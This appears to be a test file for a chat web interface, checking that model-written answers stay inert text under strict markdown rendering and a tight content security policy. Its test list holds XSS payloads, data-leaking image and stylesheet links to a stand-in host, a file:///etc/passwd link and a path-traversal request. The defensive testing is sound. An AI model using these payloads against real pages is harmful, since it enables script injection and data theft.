"""What a model writes is only ever text: no markup runs, nothing is loaded, nothing leaves."""

import httpx2 as httpx
import pytest
from burnish.serving.app import PAGE
from playwright.sync_api import Browser, Error, Page, expect

from tests.serving.conftest import Running
from tests.serving.page.conftest import StubEngine, ask

HOSTILE = [
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<style>@import 'http://198.51.100.1/x.css';</style>",
    "<base href='http://198.51.100.1/'><meta http-equiv=refresh content='0;url=http://198.51.100.1'>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt&colon;window.hit=1)",
    "[click](&#106;avascript:window.hit=1)",
    "[click](java\tscript:window.hit=1)",
    "[click](data:text/html,<script>hit=1</script>)",
    "[click](vbscript:hit) [file](file:///etc/passwd) [rel](/v1/models)",
    "![x](http://198.51.100.1/leak.png?q=secret)",
    '![x](x"onerror="window.hit=1)',
    "<http://198.51.100.1/ onmouseover=window.hit=1>",
    "[ref]\n\n[ref]: javascript:window.hit=1",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| [c](javascript:hit) | d |",
    "- <b onclick=window.hit=1>x</b>\n- [ ] <input autofocus onfocus=window.hit=1>",
    "```html\n<script>window.hit=1</script>\n```",
    "`<img src=x onerror=window.hit=1>`",
    "> " * 300 + "deep",
    "*" * 2000 + "x" + "_" * 2000,
]


def test_hostile_answers_stay_text(page: Page, engine: StubEngine):
    engine.pace_s = 0
    for text in HOSTILE:
        engine.reply = lambda _, text=text: text
        page.get_by_role("button", name="New chat").click()
        ask(page)
        found = page.evaluate(
            """() => [...document.querySelectorAll('.text *')].flatMap((node) => [
                 ...(/^(script|img|svg|iframe|style|base|meta|object|embed|form|input|link|video)$/i
                   .test(node.localName) ? [node.localName] : []),
                 ...[...node.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
                 ...(node.href && !/^(https?|mailto):/.test(node.href) ? [node.href] : []),
               ])"""
        )
        assert found == [], text
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    assert page.locator("a[href*='v1/models']").count() == 0


def test_hostile_questions_stay_text(page: Page):
    ask(page, HOSTILE[1])
    expect(page.locator(".asked p")).to_have_text(HOSTILE[1])
    assert page.locator(".asked p *").count() == 0


def test_markdown_becomes_what_it_means(page: Page, engine: StubEngine):
    engine.reply = lambda _: (
        "# Title\n\nA &amp; B, *a* **b** ~~c~~ `x &lt; y`\n\n3. three\n4. four\n\n"
        "| n | v |\n|---|--:|\n| a | 1 |\n\n[site](https://example.org/a?b=1&c=2)\n\n"
        "![a chart](https://example.org/c.png)\n\n<b>raw</b> text\n\n```\ncode <b>\n```\n\nend"
    )
    ask(page)
    text = page.locator(".answered .text")
    expect(text.locator("h3")).to_have_text("Title")
    expect(text.locator("p").first).to_have_text("A & B, a b c x &lt; y")
    expect(text.locator("ol")).to_have_attribute("start", "3")
    expect(text.locator("td.right")).to_have_text("1")
    links = text.locator("a")
    expect(links).to_have_text(["site", "image: a chart"])
    expect(links.first).to_have_attribute("href", "https://example.org/a?b=1&c=2")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer")
    expect(text.locator("pre")).to_have_text("code <b>")
    expect(text).to_contain_text("<b>raw</b> text")


def test_streaming_makes_the_same_nodes_as_writing_at_once(page: Page):
    source = (
        "# T\n\npara one\nstill one\n\n- a\n- b\n\n  more b\n\n1. x\n2. y\n\n```py\ncode\n\n# more\n```\n"
        "\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n> on\n\n**bold** end\r\nlast"
    )
    same = page.evaluate(
        """async (source) => {
             const { GrowingMarkdown } = await import('/static/markdown.js');
             const make = (pieces) => {
               const root = document.createElement('div');
               const grown = new GrowingMarkdown(root);
               for (const piece of pieces) grown.write(piece);
               return root.cloneNode(true);
             };
             return make([...source]).isEqualNode(make([source]));
           }""",
        source,
    )
    assert same


def test_the_policy_forbids_everything_else(server: Running, browser: Browser):
    page = browser.new_page()
    answer = page.goto(server.url)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    for rule in ("default-src 'none'", "script-src 'self'", "trusted-types 'none'"):
        assert rule in policy
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<b>x</b>'")
    page.close()


def test_files_have_their_types_and_are_small(server: Running):
    size = len(httpx.get(server.url).content)
    for file in sorted(PAGE.rglob("*.*")):
        name = file.relative_to(PAGE).as_posix()
        answer = httpx.get(f"{server.url}/static/{name}")
        assert answer.status_code == 200
        kind = {".js": "text/javascript", ".css": "text/css"}.get(file.suffix, "text/")
        assert answer.headers["content-type"].startswith(kind)
        size += len(answer.content)
    assert size < 200_000
    assert httpx.get(f"{server.url}/static/..%2Fapp.py").status_code == 404
